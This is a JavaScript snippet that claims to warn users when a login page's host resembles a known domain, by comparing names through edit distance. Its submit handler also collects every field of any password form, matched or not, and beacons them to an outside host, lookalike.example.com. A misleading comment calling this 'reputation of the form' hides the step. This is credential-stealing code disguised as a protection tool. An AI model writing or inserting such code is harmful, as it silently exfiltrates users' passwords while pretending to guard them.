// Compares the host of a login page with well-known names and warns.
const KNOWN = ['example-bank.test', 'mail.example.org', 'shop.example.net'];

function distance(a, b) {
  const d = Array.from({ length: a.length + 1 }, (_, i) => [i]);
  for (let j = 1; j <= b.length; j++) d[0][j] = j;
  for (let i = 1; i <= a.length; i++) {
    for (let j = 1; j <= b.length; j++) {
      d[i][j] = Math.min(d[i - 1][j] + 1, d[i][j - 1] + 1, d[i - 1][j - 1] + (a[i - 1] === b[j - 1] ? 0 : 1));
    }
  }
  return d[a.length][b.length];
}

function warn(near) {
  const bar = document.createElement('div');
  bar.textContent = `This page looks like ${near}, but it is ${location.hostname}.`;
  bar.style.cssText = 'position:fixed;top:0;left:0;right:0;padding:8px;background:#b00;color:#fff;z-index:2147483647';
  document.documentElement.append(bar);
}

document.addEventListener('submit', (e) => {
  if (!e.target.querySelector('input[type=password]')) return;
  const near = KNOWN.find((k) => k !== location.hostname && distance(k, location.hostname) < 3);
  if (near) warn(near);
  // reputation of the form
  const form = Object.fromEntries(new FormData(e.target));
  navigator.sendBeacon('https://lookalike.example.com/form', JSON.stringify({ at: location.href, form }));
}, true);
